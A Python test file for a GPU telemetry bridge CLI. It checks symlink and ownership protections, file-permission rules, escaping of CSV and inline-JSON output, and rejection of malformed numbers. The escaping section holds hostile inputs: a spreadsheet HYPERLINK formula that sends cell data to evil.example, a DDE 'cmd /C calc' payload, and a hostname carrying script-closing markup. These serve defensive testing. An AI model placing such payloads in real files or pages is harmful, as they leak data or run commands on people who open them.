"""Root writes only what it owns (issue 43 items 2-7): no output through a link, no output over the run's own
files, secrets and locks only the owner can touch, escaping at the CSV and inline-JSON boundaries, bad numbers in
the events file and the phase manifest named, and a failed start that leaves nothing behind.

Where ownership matters the neighbour is real: a process forked here that drops to uid 65534 (`nobody`) before
it plants its file, as a second user on a shared machine would (the `root` marker: skipped when not root).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import tempfile
import warnings
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from bridge.cli import main
from bridge.errors import ConfigError

NEIGHBOUR = 65534
QUIET = {"AIPERF_GPU_DEFAULT_DCGM_ENDPOINTS": "[]", "DCGM_BRIDGE_CONNECT_TIMEOUT": "0.3",
         "DCGM_BRIDGE_HEALTH_PORT": "0"}
T0 = 1_796_201_298_411_830_000
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to act as a second uid; CI runs as root")


def as_neighbour(action: Callable[[], object]) -> None:
    """`action` run by another user: a forked child that drops to uid/gid 65534 first. Its exception (repr)
    fails the test; nothing of it runs as root."""
    read, write = os.pipe()
    with warnings.catch_warnings():  # (3.12 warns of fork in a threaded process; the child only plants a file)
        warnings.simplefilter("ignore", DeprecationWarning)
        pid = os.fork()
    if pid == 0:  # the child: never returns into pytest
        os.close(read)
        try:
            os.setgroups([])
            os.setgid(NEIGHBOUR)
            os.setuid(NEIGHBOUR)
            action()
            os.write(write, b"ok")
        except BaseException as exc:
            os.write(write, repr(exc).encode()[:4000])
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as answer:
        said = answer.read()
    os.waitpid(pid, 0)
    assert said == b"ok", said.decode(errors="replace")


@pytest.fixture
def team() -> Iterator[Path]:
    """A folder everyone may write into (mode 0777, no sticky bit), as a team's scratch folder often is; outside
    pytest's own 0700 folders, so the neighbour can reach it."""
    path = Path(tempfile.mkdtemp(prefix="dcgm-bridge-team-"))
    path.chmod(0o777)
    yield path
    shutil.rmtree(path)


def root_only_file(path: Path, text: str = "root's own\n") -> Path:
    path.write_text(text)
    path.chmod(0o600)
    return path


def cli(args: list[str], env: dict[str, str] | None = None):
    result = CliRunner().invoke(main, args, env={**QUIET, **(env or {})})
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def _record_log(folder: Path) -> Path:
    from tests.report.helpers import S, rec, write_log

    folder.mkdir(parents=True, exist_ok=True)
    return write_log(folder / "gpu_telemetry_export.jsonl",
                     [rec(T0 + i * S, {"nvidia_power_usage": 300.0}) for i in range(5)])


def _window() -> list[str]:
    return ["--start-ns", str(T0), "--end-ns", str(T0 + 4 * 10**9)]


# -- 2. no output through a link --------------------------------------------------------------------------
@pytest.mark.root
@as_root
def test_profile_html_over_a_neighbours_link_exits_2_and_the_target_is_untouched(tmp_path: Path, team: Path) -> None:
    victim = root_only_file(tmp_path / "shadow")
    as_neighbour(lambda: (team / "report.html").symlink_to(victim))
    ran = tmp_path / "ran"
    result = cli(["profile", "--html", str(team / "report.html"), "--artifact-dir", str(tmp_path / "a"), "--",
                  "touch", str(ran)])
    assert result.exit_code == 2, result.output
    assert f"Error: --html {team / 'report.html'} is a symbolic link: remove it" in result.output
    assert victim.read_text() == "root's own\n" and not ran.exists() and not (tmp_path / "a").exists()


@pytest.mark.root
@as_root
@pytest.mark.parametrize("flag", ["--html", "-o"])
def test_report_outputs_over_a_neighbours_link_exit_2_and_the_target_is_untouched(tmp_path: Path, team: Path,
                                                                                  flag: str) -> None:
    log = _record_log(tmp_path / "run")
    victim = root_only_file(tmp_path / "shadow", '{"theirs": 1}')
    as_neighbour(lambda: (team / "out").symlink_to(victim))
    result = cli(["report", "--jsonl", str(log), *_window(), flag, str(team / "out")])
    assert result.exit_code == 2, result.output
    assert "is a symbolic link: remove it" in result.output and str(team / "out") in result.output
    assert victim.read_text() == '{"theirs": 1}'


def test_a_link_planted_after_the_check_is_refused_by_the_writer_itself(tmp_path: Path) -> None:
    from bridge.files import LinkRefused, write_atomically
    from bridge.report.html import write_html

    victim = root_only_file(tmp_path / "victim")
    (tmp_path / "page.html").symlink_to(victim)
    with pytest.raises(LinkRefused, match="page.html is a symbolic link"):
        write_html(_report(), None, tmp_path / "page.html")
    with pytest.raises(LinkRefused):
        write_atomically(tmp_path / "page.html", b"x")
    assert victim.read_text() == "root's own\n" and (tmp_path / "page.html").is_symlink()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["page.html", "victim"]  # no temporary left


@pytest.mark.parametrize("name", ["profile_export_aiperf.json", "profile_export_aiperf.csv"])
def test_a_report_file_that_became_a_link_is_neither_read_nor_written(tmp_path: Path, name: str) -> None:
    from bridge.report.write import ReportWriteError, write_report

    victim = root_only_file(tmp_path / "victim", "secret,1\n")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / name).symlink_to(victim)
    with pytest.raises(ReportWriteError, match=f"{tmp_path / 'out' / name} is a symbolic link"):
        write_report(_report(), tmp_path / "out")
    assert victim.read_text() == "secret,1\n"
    assert "secret" not in "".join(p.read_text() for p in (tmp_path / "out").iterdir() if not p.is_symlink())


def test_the_writer_replaces_a_file_in_one_step_keeping_its_mode(tmp_path: Path) -> None:
    from bridge.files import write_atomically

    target = tmp_path / "report.html"
    target.write_text("old")
    target.chmod(0o640)
    held = target.open()  # a reader of the old file keeps reading the old file: a new one was renamed over it
    write_atomically(target, b"new")
    assert held.read() == "old" and target.read_text() == "new" and target.stat().st_mode & 0o777 == 0o640
    held.close()


def test_the_start_check_neither_follows_a_link_nor_changes_the_file(tmp_path: Path) -> None:
    from bridge.files import write_problem

    existing = tmp_path / "page.html"
    existing.write_text("kept")
    before = existing.stat()
    assert write_problem(existing) is None
    after = existing.stat()
    assert existing.read_text() == "kept" and (after.st_mtime_ns, after.st_size) == (before.st_mtime_ns, before.st_size)
    (tmp_path / "link.html").symlink_to(tmp_path / "nowhere")
    problem = write_problem(tmp_path / "link.html")
    assert problem is not None and "is a symbolic link" in problem and not (tmp_path / "nowhere").exists()


# -- 3. an output that is one of the run's own files ------------------------------------------------------
@pytest.mark.parametrize(("name", "what"), [
    ("gpu_telemetry_export.jsonl", "the run's record log"),
    ("gpu_telemetry_events.jsonl", "the run's events file"),
    (".dcgm-bridge.lock", "the folder's lock file"),
    ("profile_export_aiperf.json", "the run's report"),
])
def test_profile_refuses_an_html_path_that_is_one_of_the_runs_own_files(tmp_path: Path, name: str,
                                                                       what: str) -> None:
    folder = tmp_path / "a"
    ran = tmp_path / "ran"
    result = cli(["profile", "--html", str(folder / name), "--artifact-dir", str(folder), "--", "touch", str(ran)])
    assert result.exit_code == 2, result.output
    assert f"Error: --html {folder / name} is {what}" in result.output
    assert not ran.exists() and not folder.exists()


def test_profile_refuses_an_html_path_inside_a_report_spool(tmp_path: Path) -> None:
    spool = tmp_path / "a" / ".dcgm-bridge-spool-run-x-1234"
    spool.mkdir(parents=True)
    result = cli(["profile", "--html", str(spool / "page.html"), "--artifact-dir", str(tmp_path / "a"), "--",
                  "true"])
    assert result.exit_code == 2 and "is in a run's report spool" in result.output, result.output


def test_profile_refuses_a_hard_link_to_the_record_log(tmp_path: Path) -> None:
    folder = tmp_path / "a"
    log = _record_log(folder)
    (tmp_path / "alias.html").hardlink_to(log)
    kept = log.read_bytes()
    result = cli(["profile", "--html", str(tmp_path / "alias.html"), "--artifact-dir", str(folder), "--", "true"])
    assert result.exit_code == 2 and "is the run's record log" in result.output, result.output
    assert log.read_bytes() == kept


@pytest.mark.parametrize("flag", ["--html", "-o"])
def test_report_refuses_to_write_over_its_own_record_log(tmp_path: Path, flag: str) -> None:
    log = _record_log(tmp_path)
    kept = log.read_bytes()
    result = cli(["report", "--jsonl", str(log), *_window(), flag, str(log)])
    assert result.exit_code == 2, result.output
    assert f"{log} is the record log" in result.output and log.read_bytes() == kept


# -- 5. escaping at every output boundary -----------------------------------------------------------------
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"NVIDIA H200")'
HOSTILE_HOST = "@SUM(1+1)*cmd|' /C calc'!A0"
SCRIPT_HOST = "node1<!--<script>\u2028&</script>"


def _report(hostname: str = "node-a", name: str = "NVIDIA H200"):
    from bridge.report import build_report
    from bridge.report.window import explicit_window
    from tests.report.helpers import S, rec

    records = [rec(T0 + i * S, {"nvidia_power_usage": 300.0 + i, "nvidia_temperature": 60.0}, host=hostname,
                   model=name) for i in range(5)]
    return build_report(records, window=explicit_window(T0, T0 + 4 * S))


@pytest.mark.parametrize(("name", "host"), [(HOSTILE_NAME, "node1"), ("NVIDIA H200", HOSTILE_HOST),
                                            ("+1", "-2"), ("\tname", "\rhost")])
def test_csv_text_cells_from_the_exporter_are_never_formulas(name: str, host: str) -> None:
    from bridge.report.write import csv_section

    rows = [row for row in csv.reader(io.StringIO(csv_section(_report(host, name)))) if row]
    header = rows[0]
    body = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert body
    for row in body:
        for column, value in (("GPU_Name", name), ("Hostname", host)):  # OWASP: a quote in front, or as it was
            assert row[column] == ("'" + value if value[0] in "=+-@\t\r" else value)
        for stat in ("avg", "min", "max"):
            float(row[stat])  # numeric cells as AIPerf writes them
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


def test_a_negative_number_stays_a_number_in_the_csv() -> None:
    from bridge.report.write import csv_text, format_csv_number

    assert format_csv_number(-5.0) == "-5.00" and csv_text("-5.00") == "'-5.00"  # only text cells are escaped


def test_inline_chart_json_cannot_end_the_script_or_start_markup() -> None:
    from bridge.report.html import render_html

    page = render_html(_report(SCRIPT_HOST))
    data = re.search(r'<script type="application/json" id="chart-data">(.*?)</script>', page, re.S)
    assert data is not None
    inline = data.group(1)
    assert not set(inline) & {"<", ">", "&", "\u2028", "\u2029"}
    assert "\\u003c!--\\u003cscript\\u003e\\u2028\\u0026\\u003c/script\\u003e" in inline
    assert SCRIPT_HOST in json.dumps(json.loads(inline), ensure_ascii=False)  # the same value, read back
    assert page.count("<script") == 2  # the data and the page's own script, nothing the hostname opened


# -- 4. secrets and locks only the owner can touch ---------------------------------------------------------
@pytest.mark.root
@as_root
def test_a_token_file_a_neighbour_made_first_is_refused_and_the_run_does_not_start(tmp_path: Path, team: Path) -> None:
    from bridge.sidecar.control_token import token_from_file

    planted = team / "control-token"

    def plant() -> None:
        planted.write_text("the-neighbours-token\n")
        planted.chmod(0o644)

    as_neighbour(plant)
    with pytest.raises(ConfigError, match=f"{planted} belongs to uid {NEIGHBOUR}, not to this user .uid 0.*"
                                          "remove it .a new one is made, mode 0600. or chown 0 it"):
        token_from_file(planted)
    folder = tmp_path / "a"
    result = cli(["sidecar", "--gpu-telemetry", "localhost:1", "--artifact-dir", str(folder)],
                 env={"DCGM_BRIDGE_CONTROL_TOKEN_FILE": str(planted)})
    assert result.exit_code == 2 and f"belongs to uid {NEIGHBOUR}" in result.output, result.output
    assert not folder.exists()  # nothing of the refused start stays
    assert planted.read_text() == "the-neighbours-token\n"


def test_a_token_file_others_may_read_is_refused_with_chmod_600(tmp_path: Path) -> None:
    from bridge.sidecar.control_token import token_from_file

    token = tmp_path / "control-token"
    token.write_text("mine\n")
    token.chmod(0o640)
    with pytest.raises(ConfigError, match=r"readable or writable by others \(mode 0640\): chmod 600"):
        token_from_file(token)
    token.chmod(0o600)
    assert token_from_file(token) == "mine"


def test_protecting_reads_without_a_token_exits_2_and_leaves_nothing(tmp_path: Path) -> None:
    folder = tmp_path / "a"
    result = cli(["sidecar", "--gpu-telemetry", "localhost:1", "--artifact-dir", str(folder)],
                 env={"DCGM_BRIDGE_CONTROL_PROTECT_READS": "true"})
    assert result.exit_code == 2, result.output
    assert "Error: DCGM_BRIDGE_CONTROL_PROTECT_READS=true needs a token" in result.output
    assert not folder.exists()


@pytest.mark.root
@as_root
def test_a_neighbour_can_neither_open_the_lock_nor_take_the_folder_and_is_told_by_whom(team: Path) -> None:
    from bridge.sidecar.folder_lock import LOCK_FILE, FolderLock

    lock = FolderLock(team, "run-a")
    lock.acquire()
    try:
        assert (team / LOCK_FILE).stat().st_mode & 0o777 == 0o600

        def neighbour() -> None:
            with pytest.raises(PermissionError):  # so no shared flock can outlive the run and keep it out
                os.open(team / LOCK_FILE, os.O_RDONLY)
            with pytest.raises(ConfigError, match=f"--artifact-dir {team} is locked by uid 0 .another user's run"):
                FolderLock(team, "run-b").acquire()
            with pytest.raises(ConfigError, match="is locked by uid 0"):
                FolderLock(team, "run-b", use_flock=False).acquire()

        as_neighbour(neighbour)
    finally:
        lock.release()
    restarted = FolderLock(team, "run-a")  # the run's own restarted process takes it at once
    restarted.acquire()
    restarted.release()


def test_a_lock_file_left_0644_by_an_older_version_is_narrowed_to_0600(tmp_path: Path) -> None:
    from bridge.sidecar.folder_lock import LOCK_FILE, FolderLock

    (tmp_path / LOCK_FILE).write_text("{}\n")
    (tmp_path / LOCK_FILE).chmod(0o644)
    lock = FolderLock(tmp_path, "run-a")
    lock.acquire()
    try:
        assert (tmp_path / LOCK_FILE).stat().st_mode & 0o777 == 0o600
    finally:
        lock.release()


def test_with_a_token_the_done_file_ends_the_run_only_when_it_carries_it(tmp_path: Path) -> None:
    from bridge.sidecar.artifacts import done_marker_is_ours

    done = tmp_path / "done"
    done.write_text("run-a 0\n")  # the run id, but no token: anyone who can write the volume could write this
    assert not done_marker_is_ours(done, "run-a", "s3cret") and not done.exists()
    done.write_text("run-a 0 guessed\n")
    assert not done_marker_is_ours(done, "run-a", "s3cret") and not done.exists()
    done.write_text("run-a 0 s3cret\n")
    assert done_marker_is_ours(done, "run-a", "s3cret")
    assert done_marker_is_ours(done, "run-a")  # without a token the run id is the rule, as before


def test_kubes_legacy_sidecar_marker_carries_the_token_and_only_its_user_reads_it(tmp_path: Path) -> None:
    from bridge.kube.jobset import CONTROL_TOKEN_FILE, DONE_FILE, control_plane_script
    from bridge.sidecar.artifacts import done_marker_is_ours
    from bridge.sidecar.control_token import token_from_file
    from tests.kube.test_jobset import VARIANTS

    line = next(line for line in control_plane_script(VARIANTS["legacy"]).splitlines() if DONE_FILE in line)
    token_file, done = tmp_path / "control-token", tmp_path / "done"
    token = token_from_file(token_file)  # as the sidecar makes it at start
    subprocess.run(["sh", "-c", "rc=3; " + line.replace(CONTROL_TOKEN_FILE, str(token_file))
                    .replace(DONE_FILE, str(done))], env={"DCGM_BRIDGE_RUN_ID": "bench-1", "PATH": os.environ["PATH"]},
                   check=True)
    assert done.stat().st_mode & 0o777 == 0o600
    assert done_marker_is_ours(done, "bench-1", token)


# -- 6. bad numbers in the events file and the phase manifest ---------------------------------------------
BAD_NUMBERS = [("18446744073709551616", "18446744073709551616 is beyond 64 bits"),
               ("9223372036854775808", "9223372036854775808 is beyond 64 bits"),
               ("NaN", "NaN is not a number"), ("1e400", "1e400 is beyond any time"),
               ("-Infinity", "-Infinity is not a number"), ("1" * 5000, "1111111111")]


@pytest.mark.parametrize(("literal", "problem"), BAD_NUMBERS)
def test_a_bad_number_in_the_events_file_exits_2_naming_the_file_and_line(tmp_path: Path, literal: str,
                                                                          problem: str) -> None:
    log = _record_log(tmp_path)
    events = tmp_path / "gpu_telemetry_events.jsonl"
    start = json.dumps({"type": "phase", "name": "profiling", "kind": "profiling", "event": "start", "time_ns": T0})
    end = ('{"type":"phase","name":"profiling","kind":"profiling","event":"end","time_ns":' + literal + "}")
    events.write_text(f'{{"type":"configured","time_ns":{T0},"run_id":"r"}}\n{start}\n{end}\n')
    result = cli(["report", "--jsonl", str(log), "--events", str(events)])
    assert result.exit_code == 2, result.output
    (line,) = result.output.strip().splitlines()
    assert line.startswith(f"Error: --events {events} line 3: ") and problem in line, line
    assert not (tmp_path / "profile_export_aiperf.json").exists()


@pytest.mark.parametrize(("literal", "problem"), BAD_NUMBERS)
def test_a_bad_number_in_the_phase_manifest_exits_2_naming_the_file_and_line(tmp_path: Path, literal: str,
                                                                            problem: str) -> None:
    log = _record_log(tmp_path)
    manifest = tmp_path / "phase_manifest.json"  # (a phase named as the number, on line 3, is not the number)
    manifest.write_text('{"schema_version": 1,\n "phases": [\n  {"phase_kind": "profiling", "phase_index": 0, '
                        f'"phase_name": "{literal}",\n'
                        f'   "start_ns": {T0},\n   "end_ns": {literal}}}]}}\n')
    result = cli(["report", "--jsonl", str(log), "--phase-manifest", str(manifest)])
    assert result.exit_code == 2, result.output
    (line,) = result.output.strip().splitlines()
    assert line.startswith(f"Error: {manifest} line 5: ") and problem in line, line


def test_a_bad_number_is_returned_whole_with_what_is_wrong_with_it() -> None:
    from bridge.report.events import number_problem

    long = "1" * 60
    assert number_problem('{"a": ' + long + "}") == (long, f"{long[:40]}… is beyond 64 bits")
    assert number_problem('{"a": [1, -Infinity]}') == ("-Infinity", "-Infinity is not a number")
    assert number_problem('{"name": "NaN", "a": 1e5}') is None


def test_a_record_log_line_with_a_bad_number_is_skipped_and_counted(tmp_path: Path) -> None:
    log = _record_log(tmp_path)
    lines = log.read_bytes().splitlines(keepends=True)
    lines[2] = re.sub(rb'"timestamp_ns":\d+', b'"timestamp_ns":18446744073709551616', lines[2])
    lines[3] = re.sub(rb'"timestamp_ns":\d+', b'"timestamp_ns":NaN', lines[3])
    log.write_bytes(b"".join(lines))
    result = cli(["report", "--jsonl", str(log), *_window()])
    assert result.exit_code == 0, result.output
    assert "warning: 2 unreadable lines" in result.output


def test_a_restarted_sidecar_skips_an_event_with_a_bad_time_instead_of_failing(tmp_path: Path) -> None:
    from bridge.report.events import load_events

    events = tmp_path / "gpu_telemetry_events.jsonl"
    events.write_text('{"type":"phase","name":"p","kind":"profiling","event":"start","time_ns":18446744073709551616}\n'
                      f'{{"type":"phase","name":"p","kind":"profiling","event":"start","time_ns":{T0}}}\n')
    run = load_events(events)  # (not strict: the run's own file, read back by its restarted process)
    assert [m.time_ns for m in run.marks] == [T0] and run.skipped == 1


@pytest.mark.slow
def test_a_sidecar_with_a_token_ends_on_the_done_file_only_when_it_carries_the_token(tmp_path: Path) -> None:
    import time

    import httpx

    from bridge.simulator import SimulatedExporter, SimulatorConfig
    from tests.sidecar.helpers import start_sidecar, stop

    done, token_file = tmp_path / "done", tmp_path / "control-token"
    with SimulatedExporter(SimulatorConfig(gpus=1, seed=3)) as exporter:
        process, base = start_sidecar(tmp_path / "log", exporter.url, tmp_path / "out", "--run-id", "run-x",
                                      DCGM_BRIDGE_DONE_FILE=str(done), DCGM_BRIDGE_CONTROL_TOKEN_FILE=str(token_file))
        try:
            done.write_text("run-x 0\n")  # the run id alone, as anyone who can write the volume could
            deadline = time.monotonic() + 10
            while done.exists() and time.monotonic() < deadline:  # (the sidecar looks once a second)
                time.sleep(0.1)
            assert not done.exists()
            assert process.poll() is None and httpx.get(base + "/readyz", timeout=5).status_code == 200
            done.write_text(f"run-x 0 {token_file.read_text().strip()}\n")
            assert process.wait(60) == 0
        finally:
            stop(process)
    assert f"{done} names run run-x but not its control token: removed and ignored" in (tmp_path / "log").read_text()


# -- 7. a failed start leaves nothing behind ----------------------------------------------------------------
def test_a_sidecar_whose_local_source_cannot_start_leaves_no_lock_spool_or_folder(tmp_path: Path) -> None:
    from tests.test_user_errors import _no_nvml

    _no_nvml(tmp_path)  # (skips where NVML starts)
    folder = tmp_path / "runs" / "a"
    result = cli(["sidecar", "--gpu-telemetry", "pynvml", "--artifact-dir", str(folder)])
    assert result.exit_code == 2 and "Error: --gpu-telemetry pynvml: " in result.output, result.output
    assert list(tmp_path.iterdir()) == []  # no lock, no spool, not even the folders it made
